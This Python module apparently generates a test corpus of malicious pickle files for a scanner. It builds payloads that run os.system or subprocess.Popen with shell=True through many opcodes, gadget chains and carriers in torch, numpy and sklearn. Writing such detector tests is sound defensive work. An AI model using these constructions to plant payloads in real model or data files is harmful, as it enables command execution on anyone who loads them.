"""Plain pickles, one for each dangerous callable, over all protocols and all opcodes that call."""
# ruff: noqa: PLC0415 - a library that is not installed costs its own files only

from __future__ import annotations

import pickle as op
from typing import Any

from corpus import gadgets
from corpus.assembler import (
    COMMAND,
    Code,
    call,
    call_by_inst,
    call_by_obj,
    group,
    name,
    push,
    shell,
    stream,
    text,
)
from corpus.writer import Corpus, Generator

FORMS = (call, call_by_inst, call_by_obj, call, call)
PROTOCOLS = 6
FUNCTION = """
def function():
    return "inert"

class Class:
    def method(self):
        return "inert"

bound = Class().method
"""


def write_gadgets(corpus: Corpus) -> None:
    """Five forms against six protocols: every pair comes up."""
    for n, (module, qualname, args) in enumerate(gadgets.plain()):
        form, protocol = FORMS[n % len(FORMS)], n % PROTOCOLS
        if "." in qualname:  # only protocols from 4 on resolve dotted names
            form, protocol = call, 4 + n % 2
        data = stream(form(module, qualname, args, protocol), protocol)
        corpus.malicious("gadget", f"{n:03}_{module}.{qualname}_p{protocol}.pkl", data)


def write_chains(corpus: Corpus) -> None:
    for n, title in enumerate(gadgets.chains(2)):
        protocol = 2 + n % 4
        data = stream(gadgets.chains(protocol)[title], protocol)
        corpus.malicious("gadget chain", f"{title}_p{protocol}.pkl", data)


def opcodes() -> dict[str, bytes]:
    """What can call or change something, other than REDUCE, INST and OBJ."""
    popen, system = name("subprocess", "Popen"), name("os", "system")
    args, kwargs = group((COMMAND,)), push({"shell": True})
    instance = Code(name("collections", "OrderedDict") + op.EMPTY_TUPLE + op.REDUCE)
    setter = op.EMPTY_DICT + text("__setstate__") + system + op.SETITEM
    parts = {
        "newobj": popen + args + op.NEWOBJ,
        "newobj_build": popen + op.EMPTY_TUPLE + op.NEWOBJ + push({"args": COMMAND, "shell": True}) + op.BUILD,
        "newobj_ex": popen + args + kwargs + op.NEWOBJ_EX,
        "build_setstate": instance + setter + op.BUILD + text(COMMAND) + op.BUILD,
        "build_on_class": name("torch.nn.modules.linear", "Linear")
        + op.EMPTY_DICT + text("forward") + system + op.SETITEM + op.BUILD,
        "build_on_module_state": instance + group((None, Code(setter))) + op.BUILD,
        "ext1": op.EXT1 + b"\x01" + args + op.REDUCE,
        "ext2": op.EXT2 + b"\x01\x02" + args + op.REDUCE,
        "ext4": op.EXT4 + b"\x01\x02\x03\x04" + args + op.REDUCE,
        "ext4_negative": op.EXT4 + b"\xff\xff\xff\xff" + args + op.REDUCE,
        "setitem_on_globals": call("builtins", "globals", ()) + text("x") + system + op.SETITEM,
        "append_on_call": call("collections", "deque", ()) + shell() + op.APPEND,
        "additems_of_call": op.EMPTY_SET + op.MARK + shell() + op.ADDITEMS,
        "frozenset_of_call": op.MARK + shell() + op.FROZENSET,
        "dict_key_is_call": op.EMPTY_DICT + shell() + op.NONE + op.SETITEM,
        "persistent_id_is_call": shell() + op.BINPERSID,
        "persistent_id_text": b"Pinert\n" + op.POP + shell(),
        "next_buffer": op.NEXT_BUFFER + op.POP + shell(),
        "readonly_buffer": op.NEXT_BUFFER + op.READONLY_BUFFER + op.POP + shell(),
    }  # fmt: skip
    return {title: stream(body, 5 if "buffer" in title else 4) for title, body in parts.items()}


def write_opcodes(corpus: Corpus) -> None:
    for title, data in opcodes().items():
        corpus.malicious("pickle opcode", f"{title}.pkl", data)


def carriers() -> dict[str, Code]:
    """Harmless callables that themselves call, or keep for later, what they are given."""
    system = name("os", "system")
    empty = Code(op.EMPTY_TUPLE)
    state = push({"func": system, "validate": False, "kw_args": None})
    transformer = name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    return {
        "rebuild_from_type": call("torch._tensor", "_rebuild_from_type_v2", (system, system, (COMMAND,), {})),
        "rebuild_wrapper": call("torch._utils", "_rebuild_wrapper_subclass", (system, None, (1,))),
        "default_factory": call("collections", "defaultdict", (system,)),
        "function_transformer": Code(transformer + empty + op.NEWOBJ + state + op.BUILD),
        "vectorize": call("numpy", "vectorize", (system,)),
        "frompyfunc": call("numpy", "frompyfunc", (system, 1, 1)),
        "cached_property": call("functools", "cached_property", (system,)),
        "lambda_lr": Code(
            name("torch.optim.lr_scheduler", "LambdaLR") + empty + op.NEWOBJ + push({"lr_lambdas": [system]}) + op.BUILD
        ),
        "hook_of_module": Code(
            name("torch.nn.modules.linear", "Linear")
            + empty + op.NEWOBJ + push({"training": False, "_forward_hooks": [system]}) + op.BUILD
        ),
        "string_in_state_dict": Code(
            name("collections", "OrderedDict") + empty + op.REDUCE + text("layer.weight") + shell() + op.SETITEM
        ),
        "reference_only": Code(push({"loss": system, "epoch": 3})),
    }  # fmt: skip


def write_carriers(corpus: Corpus) -> None:
    for title, code in carriers().items():
        corpus.malicious("indirect call", f"{title}.pkl", stream(code, 2))


def write_functions(corpus: Corpus) -> None:
    """What the picklers of functions make of one that returns a word: its byte code is in the file."""
    import cloudpickle
    import dill

    namespace: dict[str, Any] = {"__name__": "__main__"}  # so that it is not pickled by reference
    exec(compile(FUNCTION, "<inert>", "exec"), namespace)
    for pickler in (cloudpickle, dill):
        for title in ("function", "bound"):
            data = pickler.dumps(namespace[title], protocol=4)
            corpus.malicious("pickled function", f"{pickler.__name__}_{title}.pkl", data)


GENERATORS: tuple[Generator, ...] = (
    write_gadgets,
    write_chains,
    write_opcodes,
    write_carriers,
    write_functions,
)
